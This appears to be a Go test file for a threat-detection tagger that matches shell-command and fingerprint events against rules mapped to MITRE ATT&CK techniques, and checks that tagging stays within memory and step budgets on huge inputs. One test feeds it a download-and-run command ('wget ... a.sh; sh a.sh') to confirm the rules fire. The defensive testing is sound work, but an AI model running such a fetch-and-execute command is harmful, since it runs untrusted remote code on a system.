package tagger

import (
	"fmt"
	"runtime"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/ttpcron/ttpcron"
)

// A payload with a megabyte of JSON costs one walk over it, not a copy of every member for
// every rule that reads one.
func TestStructuredPayload(t *testing.T) {
	const size = 1<<20 - 64
	rep := func(s string) string { return strings.Repeat(s, size/len(s)) }
	var keys strings.Builder
	keys.WriteString(`{"":0`)
	for i := 0; keys.Len() < size; i++ {
		fmt.Fprintf(&keys, `,"%x":0`, i)
	}
	keys.WriteByte('}')
	c := loadEmbedded().Tagger(nil)
	for name, raw := range map[string]string{
		"members": keys.String(), "members of the fingerprint": `{"_fp":` + keys.String() + `}`, "numbers": "[" + rep("0,") + "0]", "texts": "[" + rep(`"",`) + "0]",
		"objects": "[" + rep("{},") + "0]", "one number": rep("9"), "deep": strings.Repeat(`{"a":`, 5000) + "0" + strings.Repeat("}", 5000),
		"languages": `{"_fp":{"nav":{"lgs":[` + rep(`"aa",`) + `""]}}}`, "Kelvin": `{"ſ":"` + rep("K") + `"}`,
	} {
		for _, field := range []string{"headers", "_fp", "country", "user_agent", "is_tor", "tz_mismatch_zones"} {
			e := &ttpcron.Event{ID: "e", Kind: ttpcron.CanaryFingerprint, Time: time.Unix(0, 0), Payload: ttpcron.Payload{{Name: field, Raw: []byte(raw)}}}
			c.Tag(e, nil)
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			_, v := c.Tag(e, nil)
			runtime.ReadMemStats(&after)
			if made := after.TotalAlloc - before.TotalAlloc; made > mostAllocated {
				t.Errorf("%s in %s: %.1f MiB", name, field, float64(made)/(1<<20))
			}
			if field == "user_agent" && name == "texts" && !v.Bounded {
				t.Errorf("%s in %s: what was not looked at is not said", name, field)
			}
		}
	}
}

// The rules tried for one explanation share a budget. If it runs out, the explanation says
// so.
func TestExplainIsBounded(t *testing.T) {
	x := bombs(t, 40).Explain(*commandEvent(strings.Repeat("a", 1<<20)))
	if x.steps > stepsPerExplanation || !x.Verdict.Bounded {
		t.Errorf("%d steps, bounded %v", x.steps, x.Verdict.Bounded)
	}
	x = loadEmbedded().Explain(*commandEvent("wget http://203.0.113.9/a.sh; sh a.sh"))
	if x.Verdict.Bounded || len(x.Rules) == 0 || x.steps > stepsPerExplanation/20 {
		t.Errorf("%d rules, %d steps, bounded %v", len(x.Rules), x.steps, x.Verdict.Bounded)
	}
}

// Tests that held on commands where the rule then failed cost an explanation almost
// nothing. What it shows of a value is bounded, and a match is shown even if finding its
// place takes more than is left of the budget.
func TestExplainTellsWhatMatched(t *testing.T) {
	files := fstest.MapFS{}
	for i := range 40 {
		match := "{all: [{line: {pattern: '[a-z]+ x+'}}, {args: {pattern: 'y'}}]}"
		files[fmt.Sprintf("%d.yaml", i)] = &fstest.MapFile{Data: fmt.Appendf(nil, "rule_id: R%d\nrule_version: 1\nname: r\napplies_to: [command]\n"+
			"match: %s\nemits: [{tactic: TA0002, technique_id: T1059, confidence: 0.9}]\n", i, match)}
	}
	rs, report := Load(Options{Folders: []Folder{{Name: "starts", FS: files}}})
	if rs.Len() != len(files) {
		t.Fatal(report.Problems)
	}
	e := commandEvent(strings.Repeat("a "+strings.Repeat("x", 200)+";", 4000))
	cost := measured(func() (int, bool) {
		x := rs.Explain(*e)
		return x.steps, x.Verdict.Bounded
	})
	if cost.allocated > mostAllocated {
		t.Errorf("%v", cost)
	}
	for _, expr := range []string{"a[^;]*", "a"} {
		x := patternsOf(t, expr).Explain(*commandEvent("a" + strings.Repeat("x", 1<<20)))
		for _, j := range x.Rules {
			for _, h := range j.Hits {
				if len(h.Value) > ttpcron.MaxShown+len("…") {
					t.Errorf("%s: %d bytes of a value", expr, len(h.Value))
				}
			}
		}
		if len(x.Rules) != 1 {
			t.Errorf("%s: %d rules", expr, len(x.Rules))
		}
	}
}

// patternsOf loads one rule for each expression.
func patternsOf(t *testing.T, list ...string) *RuleSet {
	files := fstest.MapFS{}
	for i, expr := range list {
		files[fmt.Sprintf("%d.yaml", i)] = &fstest.MapFile{Data: fmt.Appendf(nil, "rule_id: P%d\nrule_version: 1\nname: p\napplies_to: [command]\n"+
			"match: {pattern: '%s'}\nemits: [{tactic: TA0002, technique_id: T1059, confidence: 0.9}]\n", i, expr)}
	}
	rs, report := Load(Options{Folders: []Folder{{Name: "patterns", FS: files}}})
	if rs.Len() != len(list) {
		t.Fatal(report.Problems)
	}
	return rs
}

// What one expression has made room for serves the next: rules that can only be
// matched by backtracking cost an event one stack together.
func TestBacktrackingAllocates(t *testing.T) {
	c := bombs(t, 40).Tagger(nil)
	e := commandEvent(strings.Repeat("a", 1<<20))
	c.Tag(e, nil)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	c.Tag(e, nil)
	runtime.ReadMemStats(&after)
	if made := after.TotalAlloc - before.TotalAlloc; made > mostAllocated/2 {
		t.Errorf("%.1f MiB", float64(made)/(1<<20))
	}
}

// What tests ask for in lower case, and what Sigma's fields are put together of, is
// made once for all rules.
func TestRulesShareWhatTheyMake(t *testing.T) {
	const size = 1 << 20
	rep := func(s string) string { return strings.Repeat(s, size/len(s)) }
	for name, rs := range map[string]*RuleSet{"embedded": loadEmbedded(), "costly": costlyRules(t, 20)} {
		c := rs.Tagger(nil)
		for what, text := range map[string]string{
			"one line": "WGET " + rep("x"), "capitals": "echo " + rep("X "), "no ASCII": "echo " + rep("\u00e9 "), "long s": "echo " + rep("\u017f"), "a path": "/" + rep("X"),
			"a program": rep("X"), "many commands": rep("/x/curl -H X;"), "substitutions": "wget " + rep("$(/x/curl X "), "after a wrapper": "sudo " + rep("W"),
			"layers": "bash -c 'sh -c \"curl " + strings.Repeat("X", 200<<10) + "\"';" + strings.Repeat("Y", 700<<10),
		} {
			if cost := tagging(c)(text); cost.allocated > mostAllocated {
				t.Errorf("%s, %s: %v", name, what, cost)
			}
		}
	}
}
